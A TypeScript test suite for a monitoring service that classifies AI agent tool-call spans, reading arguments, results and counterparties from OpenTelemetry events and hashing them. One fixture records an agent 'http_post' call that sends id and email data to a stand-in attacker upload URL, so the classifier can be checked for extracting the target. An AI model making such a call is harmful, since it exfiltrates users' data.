/**
 * Tool content read from span events and GenAI message lists (services/core/tool-event-content.ts, wired in
 * services/core/tool-detail.ts): the shapes Strands Agents 1.65.0 records (strands/telemetry/tracer.py,
 * `start_tool_call_span` / `end_tool_call_span`), by default and with the latest GenAI conventions, the precedence
 * of the tool attributes, what a stored event keeps, and odd input.
 */
import { describe, expect, it } from 'vitest';
import { buildSpanRecords } from '../../services/bus/kafka/publisher.ts';
import { classifyRequest } from '../../services/core/classify.ts';
import { decodeTraceRequest, encodeTraceRequest } from '../../services/otlp/codec.ts';
import { routeTraceRequest } from '../../services/otlp/route.ts';
import { counterpartyKey } from '../../services/core/counterparties.ts';
import { MAX_KEPT_ATTRIBUTES } from '../../services/core/tool-detail.ts';
import { MAX_MESSAGES_LENGTH, MAX_TOOL_SPAN_EVENTS } from '../../services/core/tool-event-content.ts';
import type { AgentEvent, CounterpartyKind } from '../../schemas/events.ts';
import type { OtlpSpan, OtlpSpanEvent } from '../../schemas/otlp.ts';
import { kv, request, span } from '../helpers/otlp-spans.ts';

const secret = 'event-content-secret-42';
const cp = (kind: CounterpartyKind, value: string) => ({
  kind,
  key: counterpartyKey({ secret, tenant: 'acme' }, kind, value),
});

const input = { to: 'Billing@Customer.example', account: 'DE89 3704 0044 0532 0130 00', amount: 120.5 };
const inputJson = JSON.stringify(input);
/** What a Strands `@tool` returns for a dict: one text block holding its JSON. */
const content = [{ text: JSON.stringify({ sent: true, copy_to: 'ledger@books.example' }) }];
const contentJson = JSON.stringify(content);

const event = (name: string, attributes: Record<string, string>): OtlpSpanEvent => ({
  timeUnixNano: '1795900000150000000',
  name,
  attributes: Object.entries(attributes).map(([key, value]) => kv(key, value)),
});

/** Strands' `execute_tool` span attributes (its common attributes and the tool's). */
const toolAttributes = (extra: Record<string, string> = {}): Record<string, string> => ({
  'gen_ai.operation.name': 'execute_tool',
  'gen_ai.system': 'strands-agents',
  'gen_ai.tool.name': 'send_invoice',
  'gen_ai.tool.call.id': 'tooluse_1',
  'gen_ai.tool.status': 'success',
  ...extra,
});

/** By default: the input in `gen_ai.tool.message`, the result in `gen_ai.choice`. */
const legacyEvents = (): OtlpSpanEvent[] => [
  event('gen_ai.tool.message', { role: 'tool', content: inputJson, id: 'tooluse_1' }),
  event('gen_ai.choice', { message: contentJson, id: 'tooluse_1' }),
];

const inputMessages = (args: unknown = input, id = 'tooluse_1') =>
  JSON.stringify([{ role: 'tool', parts: [{ type: 'tool_call', name: 'send_invoice', id, arguments: args }] }]);
const outputMessages = (response: unknown = content, id = 'tooluse_1') =>
  JSON.stringify([{ role: 'tool', parts: [{ type: 'tool_call_response', id, response }] }]);

/** With `gen_ai_latest_experimental`, as events (the tool attributes left out here to test the messages alone). */
const latestEvents = (): OtlpSpanEvent[] => [
  event('gen_ai.client.inference.operation.details', { 'gen_ai.input.messages': inputMessages() }),
  event('gen_ai.client.inference.operation.details', { 'gen_ai.output.messages': outputMessages() }),
];

function classifyOne(toolSpan: OtlpSpan, storeToolContent = false): AgentEvent {
  const [classified] = classifyRequest(request([toolSpan]), 'acme', {
    counterpartyKey: secret,
    storeToolContent,
  }).events;
  if (classified === undefined) throw new Error('the tool span gave no event');
  return classified;
}

const expectedFacts = {
  name: 'send_invoice',
  callId: 'tooluse_1',
  counterparties: [
    cp('email', 'billing@customer.example'),
    cp('domain', 'customer.example'),
    cp('account', 'DE89370400440532013000'),
  ],
  resultCounterparties: [cp('email', 'ledger@books.example'), cp('domain', 'books.example')],
  resultRecorded: true,
  amount: 120.5,
  argumentKeys: ['account', 'amount', 'to'],
};

describe('tool content from span events', () => {
  it('reads the arguments from `gen_ai.tool.message` and the result from `gen_ai.choice` (Strands by default)', () => {
    const classified = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events: legacyEvents() }));
    expect(classified.tool).toMatchObject(expectedFacts);
    expect(classified.tool?.counterparties).toHaveLength(3);
    expect(classified.tool?.argumentsHash).toMatch(/^[0-9a-f]{16}$/);
    expect(classified.tool?.resultHash).toMatch(/^[0-9a-f]{16}$/);
  });

  it('gives the same facts and hashes as the tool attributes holding the same content', () => {
    const fromEvents = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events: legacyEvents() }));
    const fromAttributes = classifyOne(
      span(
        'execute_tool send_invoice',
        toolAttributes({ 'gen_ai.tool.call.arguments': inputJson, 'gen_ai.tool.call.result': contentJson }),
      ),
    );
    expect(fromEvents.tool).toEqual(fromAttributes.tool);
  });

  it('reads a target from arguments found in an event', () => {
    const args = JSON.stringify({ url: 'https://drop.attacker.example/upload', body: 'id,email' });
    const classified = classifyOne(
      span('execute_tool http_post', toolAttributes({ 'gen_ai.tool.name': 'http_post' }), {
        events: [event('gen_ai.tool.message', { role: 'tool', content: args, id: 'tooluse_1' })],
      }),
    );
    expect(classified.tool).toMatchObject({
      name: 'http_post',
      target: 'https://drop.attacker.example/upload',
      argumentKeys: ['body', 'url'],
      resultRecorded: false,
    });
  });

  it('reads the structured messages of span events (Strands with the latest conventions)', () => {
    const classified = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events: latestEvents() }));
    expect(classified.tool).toMatchObject(expectedFacts);
  });

  it('reads the structured messages of span attributes (`gen_ai_span_attributes_only`)', () => {
    const classified = classifyOne(
      span(
        'execute_tool send_invoice',
        toolAttributes({ 'gen_ai.input.messages': inputMessages(), 'gen_ai.output.messages': outputMessages() }),
      ),
    );
    expect(classified.tool).toMatchObject(expectedFacts);
  });

  it('takes the part of the span call id among several, else the first; arguments given as a JSON string stay so', () => {
    const list = JSON.stringify([
      {
        role: 'assistant',
        parts: [
          { type: 'text', content: 'two calls' },
          { type: 'tool_call', id: 'other', name: 'x', arguments: { to: 'wrong@other.example' } },
          { type: 'tool_call', id: 'tooluse_1', name: 'send_invoice', arguments: inputJson },
        ],
      },
    ]);
    const byId = classifyOne(
      span('execute_tool send_invoice', toolAttributes(), {
        events: [event('gen_ai.client.inference.operation.details', { 'gen_ai.input.messages': list })],
      }),
    );
    expect(byId.tool?.counterparties).toEqual(expectedFacts.counterparties);
    const attributes = toolAttributes();
    delete attributes['gen_ai.tool.call.id'];
    const first = classifyOne(
      span('execute_tool send_invoice', attributes, {
        events: [event('gen_ai.client.inference.operation.details', { 'gen_ai.input.messages': list })],
      }),
    );
    expect(first.tool?.counterparties).toEqual([cp('email', 'wrong@other.example'), cp('domain', 'other.example')]);
  });

  it('prefers the structured messages to the older events, and the tool attributes to both', () => {
    const older = event('gen_ai.tool.message', { content: JSON.stringify({ to: 'old@older.example' }) });
    const structured = event('gen_ai.client.inference.operation.details', { 'gen_ai.input.messages': inputMessages() });
    const both = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events: [older, structured] }));
    expect(both.tool?.counterparties).toEqual(expectedFacts.counterparties);

    const attributeArgs = JSON.stringify({ to: 'attr@span.example' });
    const attributeResult = JSON.stringify({ ok: 'result@span.example' });
    const withAttributes = classifyOne(
      span(
        'execute_tool send_invoice',
        toolAttributes({ 'gen_ai.tool.call.arguments': attributeArgs, 'gen_ai.tool.call.result': attributeResult }),
        { events: [...legacyEvents(), ...latestEvents()] },
      ),
    );
    expect(withAttributes.tool).toMatchObject({
      counterparties: [cp('email', 'attr@span.example'), cp('domain', 'span.example')],
      resultCounterparties: [cp('email', 'result@span.example'), cp('domain', 'span.example')],
      argumentKeys: ['to'],
    });
    // Content read from the attributes is not kept again from the events.
    expect(Object.keys(withAttributes.attributes).filter((key) => key.startsWith('gen_ai.tool.message'))).toEqual([]);

    // Each side on its own: the result attribute with the arguments from an event.
    const mixed = classifyOne(
      span('execute_tool send_invoice', toolAttributes({ 'gen_ai.tool.call.result': attributeResult }), {
        events: legacyEvents(),
      }),
    );
    expect(mixed.tool).toMatchObject({
      counterparties: expectedFacts.counterparties,
      resultCounterparties: [cp('email', 'result@span.example'), cp('domain', 'span.example')],
    });
  });

  it('reads the older events only on tool spans: a model call keeps its `gen_ai.choice` to itself', () => {
    const chat = span(
      'chat',
      { 'gen_ai.operation.name': 'chat', 'gen_ai.usage.input_tokens': 10 },
      { events: legacyEvents() },
    );
    const batch = classifyRequest(request([chat]), 'acme', { counterpartyKey: secret });
    expect(batch.events).toEqual([]);
    expect(batch.usages).toHaveLength(1);
    expect(JSON.stringify(batch)).not.toContain('customer.example');
  });

  it('keeps the content read from events only as a marker, or cut when tool content is stored', () => {
    const toolSpan = (): OtlpSpan => span('execute_tool send_invoice', toolAttributes(), { events: legacyEvents() });
    const marked = classifyOne(toolSpan());
    expect(marked.attributes).toMatchObject({
      'gen_ai.tool.message.content': `[not stored: ${String(inputJson.length)} chars]`,
      'gen_ai.choice.message': `[not stored: ${String(contentJson.length)} chars]`,
    });
    const stored = JSON.stringify(marked).toLowerCase();
    for (const raw of ['customer.example', 'books.example', 'de89', 'billing']) expect(stored).not.toContain(raw);

    const kept = classifyOne(toolSpan(), true);
    expect(kept.attributes).toMatchObject({
      'gen_ai.tool.message.content': inputJson,
      'gen_ai.choice.message': contentJson,
    });
    const long = JSON.stringify({ note: 'n'.repeat(2000) });
    const cut = classifyOne(
      span('execute_tool x', toolAttributes(), { events: [event('gen_ai.tool.message', { content: long })] }),
      true,
    );
    expect(cut.attributes['gen_ai.tool.message.content']).toBe(long.slice(0, 512));

    const latest = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events: latestEvents() }));
    expect(latest.attributes['gen_ai.input.messages']).toBe(`[not stored: ${String(inputJson.length)} chars]`);
    expect(latest.attributes['gen_ai.output.messages']).toBe(`[not stored: ${String(contentJson.length)} chars]`);
  });

  it('marks structured messages on a tool span attribute as tool content', () => {
    const messages = inputMessages();
    const classified = classifyOne(
      span('execute_tool send_invoice', toolAttributes({ 'gen_ai.input.messages': messages })),
    );
    expect(classified.attributes['gen_ai.input.messages']).toBe(`[not stored: ${String(messages.length)} chars]`);
  });

  it('keeps no more than MAX_KEPT_ATTRIBUTES attributes with event content', () => {
    const many: Record<string, string> = toolAttributes();
    for (let i = 0; Object.keys(many).length < MAX_KEPT_ATTRIBUTES + 5; i += 1) many[`x.${String(i)}`] = 'v';
    const classified = classifyOne(span('execute_tool send_invoice', many, { events: legacyEvents() }));
    expect(Object.keys(classified.attributes)).toHaveLength(MAX_KEPT_ATTRIBUTES);
    expect(classified.tool?.counterparties).toEqual(expectedFacts.counterparties);
  });

  describe('odd input', () => {
    const oddEvents: [string, OtlpSpanEvent[]][] = [
      ['events without attributes', [{ timeUnixNano: '0', name: 'gen_ai.tool.message', attributes: [] }]],
      [
        'attributes of other types',
        [
          {
            timeUnixNano: '0',
            name: 'gen_ai.tool.message',
            attributes: [
              { key: 'content', value: { intValue: 7 } },
              { key: 'content', value: { arrayValue: { values: [{ stringValue: 'a@b.example' }] } } },
              { key: 'content' },
            ],
          },
          { timeUnixNano: '0', name: 'gen_ai.choice', attributes: [{ key: 'message', value: { boolValue: true } }] },
        ],
      ],
      [
        'messages that are no JSON list, or lists without tool parts',
        [
          event('x', { 'gen_ai.input.messages': '[{"role":"tool","parts":' }),
          event('x', { 'gen_ai.input.messages': '{"role":"tool"}' }),
          event('x', { 'gen_ai.input.messages': '[1, null, {"parts": 3}, {"parts": [null, {"type": "tool_call"}]}]' }),
          event('x', {
            'gen_ai.output.messages': '[{"role":"tool","parts":[{"type":"text","content":"a@b.example"}]}]',
          }),
          event('x', { 'gen_ai.output.messages': '"just a string"' }),
        ],
      ],
      ['an empty content', [event('gen_ai.tool.message', { content: '' })]],
      [
        'events that are not what they look like',
        [
          null,
          { name: 'gen_ai.tool.message' },
          { name: 'gen_ai.choice', attributes: 'message' },
        ] as unknown as OtlpSpanEvent[],
      ],
    ];

    it.each(oddEvents)('reads no content from %s, and throws nothing', (_, events) => {
      const classified = classifyOne(span('execute_tool send_invoice', toolAttributes(), { events }));
      expect(classified.tool).toEqual({ name: 'send_invoice', callId: 'tooluse_1', resultRecorded: false });
    });

    it('reads non-JSON content as text', () => {
      const classified = classifyOne(
        span('execute_tool send_invoice', toolAttributes(), {
          events: [
            event('gen_ai.tool.message', { content: 'mail carol@corp.example' }),
            event('gen_ai.choice', { message: 'done' }),
          ],
        }),
      );
      expect(classified.tool).toMatchObject({
        counterparties: [cp('email', 'carol@corp.example'), cp('domain', 'corp.example')],
        resultRecorded: true,
      });
    });

    it('reads a message list too long to parse as text, and huge content within the readers’ bounds', () => {
      const padding = 'p'.repeat(MAX_MESSAGES_LENGTH);
      const classified = classifyOne(
        span('execute_tool send_invoice', toolAttributes(), {
          events: [
            event('d', { 'gen_ai.input.messages': inputMessages({ to: 'far@long.example', pad: padding }) }),
            event('gen_ai.choice', { message: `${'r'.repeat(5_000_000)} end@huge.example` }),
          ],
        }),
      );
      // The scan reads the start of long text only: the address at the start is found, the one after 5 MB is not.
      expect(classified.tool?.counterparties).toEqual([cp('email', 'far@long.example'), cp('domain', 'long.example')]);
      expect(classified.tool?.resultRecorded).toBe(true);
      expect(classified.tool?.resultCounterparties ?? []).toEqual([]);
    });

    it(`looks at no more than ${String(MAX_TOOL_SPAN_EVENTS)} events`, () => {
      const filler = Array.from({ length: MAX_TOOL_SPAN_EVENTS }, (_, i) => event(`log ${String(i)}`, { n: 'x' }));
      const late = classifyOne(
        span('execute_tool send_invoice', toolAttributes(), { events: [...filler, ...legacyEvents()] }),
      );
      expect(late.tool).toEqual({ name: 'send_invoice', callId: 'tooluse_1', resultRecorded: false });
      const early = classifyOne(
        span('execute_tool send_invoice', toolAttributes(), { events: [...filler.slice(2), ...legacyEvents()] }),
      );
      expect(early.tool).toMatchObject(expectedFacts);
    });
  });
});

describe('tool content from span events, through the span records a processor classifies again', () => {
  const topics = { tool_call: 'tools', data_access: 'data', privilege_change: 'privileges' };
  const strandsRequest = () =>
    request([span('execute_tool send_invoice', toolAttributes(), { events: legacyEvents() })], {
      'service.name': 'billing-agent',
    });

  it('keeps the events in the records of the byte router and of the object path, so the facts are the same', () => {
    const body = encodeTraceRequest(strandsRequest());
    const direct = classifyRequest(decodeTraceRequest(body, 'protobuf'), 'acme', { counterpartyKey: secret });
    expect(direct.events[0]?.tool).toMatchObject(expectedFacts);

    const routed = routeTraceRequest(body, topics, 900_000).records;
    const published = buildSpanRecords(
      direct,
      decodeTraceRequest(body, 'protobuf'),
      { ...topics, alerts: 'a', revocations: 'r', deadLetter: 'd' },
      900_000,
    );
    for (const records of [routed, published]) {
      expect(records).toHaveLength(1);
      const [record] = records;
      if (record === undefined) continue;
      const again = classifyRequest(decodeTraceRequest(record.value, 'protobuf'), 'acme', { counterpartyKey: secret });
      expect(again.events[0]?.tool).toEqual(direct.events[0]?.tool);
      expect(again.events[0]?.attributes).toEqual(direct.events[0]?.attributes);
    }
  });
});
